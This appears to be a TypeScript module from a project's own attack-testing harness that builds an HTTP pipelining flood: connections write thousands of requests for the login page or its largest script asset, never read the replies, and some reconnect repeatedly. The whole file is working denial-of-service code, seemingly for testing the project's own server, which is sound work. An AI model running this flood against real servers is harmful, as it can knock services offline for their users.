/** Requests one behind the other on connections whose answers nobody reads. */
import {
  type Attack,
  closed,
  connectFrom,
  headOf,
  pause,
  repeatedly,
  type Victim,
} from "./attack.ts";

const CONNECTIONS = 4;
const REQUESTS = 5_000;
/** As many for each time of the size that leave as soon as they have asked, and come again. */
const HASTY_CONNECTIONS = 4, HASTY_EVERY_MS = 1_000;

/** What is asked for over and over: the log-in page, or the largest asset. */
async function requestFor(victim: Victim, what: "page" | "asset"): Promise<string> {
  if (what === "page") return `${headOf(victim, "GET /login")}\r\n`;
  const page = await (await fetch(`${victim.origin}/login`)).text();
  const style = /href="(\S+\/login\.\S+\.css)"/.exec(page)![1]!;
  // The page of a terminal is for those who are logged in; its script is for everybody who knows it.
  const { files } = JSON.parse(await readManifest());
  return `${headOf(victim, `GET ${style.replace(/[^/]+$/, files["terminal.js"].file)}`)}\r\n`;
}

function readManifest(): Promise<string> {
  return Deno.readTextFile(new URL("../../dist/assets/manifest.json", import.meta.url));
}

function pipelining(what: "page" | "asset", summary: string): Attack {
  return {
    summary,
    account: false,
    async play(victim, play) {
      const request = await requestFor(victim, what);
      let requests = 0, connections = 0;
      const one = async (stays: boolean) => {
        const socket = await connectFrom(victim, play);
        connections++;
        socket.pause();
        const count = REQUESTS * play.scale;
        socket.write(request.repeat(count));
        requests += count;
        if (stays) return await closed(socket);
        await pause(20, play.signal);
        socket.destroy();
        await pause(HASTY_EVERY_MS, play.signal);
      };
      await Promise.all([
        ...Array.from({ length: CONNECTIONS }, () => repeatedly(play, () => one(true))),
        ...Array.from(
          { length: HASTY_CONNECTIONS * play.scale },
          () => repeatedly(play, () => one(false)),
        ),
      ]);
      return { connections, requests };
    },
  };
}

export const attack = pipelining("page", "GET /login over and over, by clients that read nothing");
export const assetAttack = pipelining("asset", "the same with the largest file there is");
